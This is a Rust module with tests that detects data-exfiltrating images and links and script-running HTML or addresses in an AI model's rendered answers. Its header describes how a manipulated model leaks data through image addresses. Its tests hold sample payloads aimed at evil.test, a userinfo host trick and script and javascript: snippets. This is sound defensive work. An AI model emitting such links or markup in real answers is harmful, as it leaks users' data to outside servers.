//! What a reader's program does by itself with an answer: images it fetches, links that carry data, HTML
//! and addresses that run code.
//!
//! A model that was talked into it writes what it knows into the address of an image; the program that shows
//! the answer fetches it, and a stranger's server has it. Images to hosts that the policy does not name are
//! found whatever they carry; links only when they carry a query or a long path, because a person must follow
//! them. Linear: every byte is looked at a bounded number of times.
//!
//! Not found: addresses that the program makes out of plain words, and other markups than Markdown and HTML.

use std::ops::Range;

use crate::glob::Glob;

/// What kind of thing it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ActiveKind {
    /// An image, or a link with data in it, to a host that is not allowed.
    Exfiltration,
    /// HTML or an address that runs code.
    Script,
}

/// One place of a text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Active {
    /// Bytes of the text, on character boundaries.
    pub span: Range<usize>,
    /// What it is.
    pub kind: ActiveKind,
}

/// The longest link text or tag that is looked through, in bytes.
const LONGEST: usize = 2048;
/// A path or query of this many bytes can carry something worth carrying.
const CARRIES: usize = 24;

/// Tags that run code or fetch by themselves, beside `img` and its kind.
const RUNS: [&str; 11] =
    ["script", "iframe", "object", "embed", "form", "base", "meta", "svg", "math", "link", "style"];
const FETCHES: [&str; 6] = ["img", "image", "video", "audio", "source", "input"];
const SCHEMES: [&str; 3] = ["javascript:", "vbscript:", "data:text/html"];

/// Every such place, in order. `allowed` are host names that may be pointed to.
pub fn active(text: &str, allowed: &[Glob]) -> Vec<Active> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(next) = text.get(at..).and_then(|rest| rest.find(['<', '[', ':'])).map(|next| at + next) {
        let one = match text.as_bytes().get(next) {
            Some(b'<') => tag(text, next, allowed),
            Some(b'[') => link(text, next, allowed),
            _ => scheme(text, next),
        };
        at = next + 1;
        if let Some(one) = one {
            at = at.max(one.span.end);
            found.push(one);
        }
    }
    found
}

/// `[words](address)`, `![words](address)` and `[name]: address`.
fn link(text: &str, open: usize, allowed: &[Glob]) -> Option<Active> {
    let window = window(text, open);
    let close = window.find(']')?;
    let rest = window.get(close + 1..)?;
    let (start, is_definition) = match rest.as_bytes().first()? {
        b'(' => (1, false),
        b':' => (1, true),
        _ => return None,
    };
    let inner = rest.get(start..)?;
    let blank = inner.len() - inner.trim_start_matches([' ', '\t', '<']).len();
    let inner = inner.get(blank..)?;
    let end = inner.find(|c: char| c.is_whitespace() || matches!(c, ')' | '>')).unwrap_or(inner.len());
    let address = inner.get(..end)?;
    let is_image = open > 0 && text.as_bytes().get(open - 1) == Some(&b'!');
    let mut stop = open + close + 1 + start + blank + end;
    if !is_definition {
        // The title and the bracket belong to it.
        stop = self::window(text, stop).find([')', '\n']).map_or(stop, |found| stop + found + 1);
    }
    let span = open - usize::from(is_image)..stop;
    if runs(address) {
        return Some(Active { span, kind: ActiveKind::Script });
    }
    // What a definition is used for is not known: an image may.
    let leaks = leaks(address, is_image, allowed);
    leaks.then_some(Active { span, kind: ActiveKind::Exfiltration })
}

fn tag(text: &str, open: usize, allowed: &[Glob]) -> Option<Active> {
    let window = window(text, open);
    let name_end = window.get(1..)?.find(|c: char| !c.is_ascii_alphanumeric()).map_or(window.len(), |end| end + 1);
    let name = window.get(1..name_end)?.to_ascii_lowercase();
    let end = window.find('>').map_or(window.len(), |end| end + 1);
    let inside = window.get(name_end..end)?.to_ascii_lowercase();
    let span = open..open + end;
    let autolink = name.starts_with("http") || SCHEMES.iter().any(|scheme| inside.starts_with(scheme));
    let kind = if name.is_empty() {
        return None;
    } else if RUNS.contains(&name.as_str()) || has_handler(&inside) {
        ActiveKind::Script
    } else if autolink {
        let address = window.get(1..end)?.trim_end_matches('>');
        if !leaks(address, false, allowed) {
            return None;
        }
        ActiveKind::Exfiltration
    } else {
        let address = ["src", "srcset", "href", "poster", "background", "data"]
            .iter()
            .find_map(|name| attribute(&inside, name))?;
        let fetches = FETCHES.contains(&name.as_str());
        if runs(address) {
            ActiveKind::Script
        } else if leaks(address, fetches, allowed) {
            ActiveKind::Exfiltration
        } else {
            return None;
        }
    };
    Some(Active { span, kind })
}

/// `javascript:` outside a link or a tag is a word; only where a value begins it is an address.
fn scheme(text: &str, colon: usize) -> Option<Active> {
    let from = text.floor_char_boundary(colon.saturating_sub(12));
    let before = text.get(from..colon + 1)?.to_ascii_lowercase();
    let scheme = ["javascript:", "vbscript:"].into_iter().find(|scheme| before.ends_with(scheme))?;
    let start = (colon + 1).checked_sub(scheme.len())?;
    let led = text.get(..start)?.ends_with(['"', '\'', '(', '=']);
    let window = window(text, start);
    let end = window.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '>')).unwrap_or(window.len());
    led.then(|| Active { span: start..start + end, kind: ActiveKind::Script })
}

fn window(text: &str, from: usize) -> &str {
    text.get(from..text.floor_char_boundary((from + LONGEST).min(text.len()))).unwrap_or_default()
}

fn runs(address: &str) -> bool {
    let plain: String =
        address.chars().filter(|c| !c.is_whitespace() && !c.is_control()).take(16).collect::<String>().to_lowercase();
    SCHEMES.iter().any(|scheme| plain.starts_with(scheme))
}

/// ` onload=` and the like.
fn has_handler(inside: &str) -> bool {
    inside.match_indices("on").any(|(at, _)| {
        let led = inside.get(..at).is_some_and(|before| before.ends_with([' ', '\t', '\n', '"', '\'', '/']));
        let rest = inside.get(at + 2..).unwrap_or_default();
        let name = rest.len() - rest.trim_start_matches(|c: char| c.is_ascii_lowercase()).len();
        led && name > 2 && rest.get(name..).is_some_and(|rest| rest.trim_start().starts_with('='))
    })
}

fn attribute<'t>(inside: &'t str, name: &str) -> Option<&'t str> {
    let at = inside.match_indices(name).find(|(at, _)| {
        let led = inside.get(..*at).is_some_and(|before| before.ends_with([' ', '\t', '\n', '"', '\'', '/']));
        led && inside.get(at + name.len()..).is_some_and(|rest| rest.trim_start().starts_with('='))
    })?;
    let value = inside.get(at.0 + name.len()..)?.trim_start().strip_prefix('=')?.trim_start();
    let (quote, value) = match value.as_bytes().first()? {
        b'"' => ('"', value.get(1..)?),
        b'\'' => ('\'', value.get(1..)?),
        _ => (' ', value),
    };
    let end = value.find(|c: char| c == quote || c == '>' || (quote == ' ' && c.is_whitespace()));
    value.get(..end.unwrap_or(value.len()))
}

/// True when fetching or following this address takes something out.
fn leaks(address: &str, fetched: bool, allowed: &[Glob]) -> bool {
    let address = address.trim();
    let lower = address.to_ascii_lowercase().replace('\\', "/");
    let Some(rest) = ["http://", "https://", "ftp://", "//"].iter().find_map(|scheme| lower.strip_prefix(scheme))
    else {
        return false;
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at_checked(end).unwrap_or((rest, ""));
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = host.rsplit_once(':').map_or(host, |(host, _)| host).trim_end_matches('.');
    if allowed.iter().any(|glob| glob.matches(host)) {
        return false;
    }
    // A host's own labels carry data too, through the name server.
    fetched || tail.contains('?') && tail.len() >= CARRIES || tail.len() >= 4 * CARRIES || host.len() >= 64
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<(ActiveKind, &str)> {
        let allowed = [Glob::new("docs.example.org"), Glob::new("*.example.com")];
        active(text, &allowed).into_iter().map(|one| (one.kind, &text[one.span])).collect()
    }

    #[test]
    fn what_takes_data_out_is_found_whole() {
        use ActiveKind::{Exfiltration, Script};
        for (text, kind, span) in [
            ("see ![x](https://evil.test/p.png) now", Exfiltration, "![x](https://evil.test/p.png)"),
            ("![a b](<https://evil.test/a?b=c> \"t\") x", Exfiltration, "![a b](<https://evil.test/a?b=c> \"t\")"),
            (
                "[go](https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa)",
                Exfiltration,
                "[go](https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa)",
            ),
            (
                "[r]: https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa\n",
                Exfiltration,
                "[r]: https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa",
            ),
            ("<IMG alt=a SRC='//evil.test/p'>", Exfiltration, "<IMG alt=a SRC='//evil.test/p'>"),
            (
                "<img src=https://docs.example.org@evil.test/p>",
                Exfiltration,
                "<img src=https://docs.example.org@evil.test/p>",
            ),
            (
                "<https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa>",
                Exfiltration,
                "<https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa>",
            ),
            ("a <script>alert(1)</script>", Script, "<script>"),
            ("<b onclick = \"x()\">", Script, "<b onclick = \"x()\">"),
            ("[x](JavaScript:alert(1))", Script, "[x](JavaScript:alert(1)"),
            ("<a href=\"data:text/html;base64,aa\">", Script, "<a href=\"data:text/html;base64,aa\">"),
        ] {
            assert_eq!(kinds(text).first(), Some(&(kind, span)), "{text}");
        }
    }

    #[test]
    fn ordinary_answers_hold_nothing() {
        for text in [
            "See [the docs](https://doc.rust-lang.org/std/vec/struct.Vec.html) and https://example.org/?q=1.",
            "![logo](https://docs.example.org/logo.png?size=1234567890123456789012)",
            "![logo](https://img.example.com/logo.png) ![local](/images/a.png) ![in](data:image/png;base64,AA)",
            "if a < b and c > d: x[i](y) = z[0]; the word javascript: is a scheme",
            "Vec<String>, Option<Box<dyn Fn()>> <- arrow, a <b>bold</b> <em class=\"x\">word</em>",
            "[x] done, [ ] to do, array[3]: 5",
            "",
            "[](<[](<![",
        ] {
            assert_eq!(kinds(text), [], "{text}");
        }
    }
}
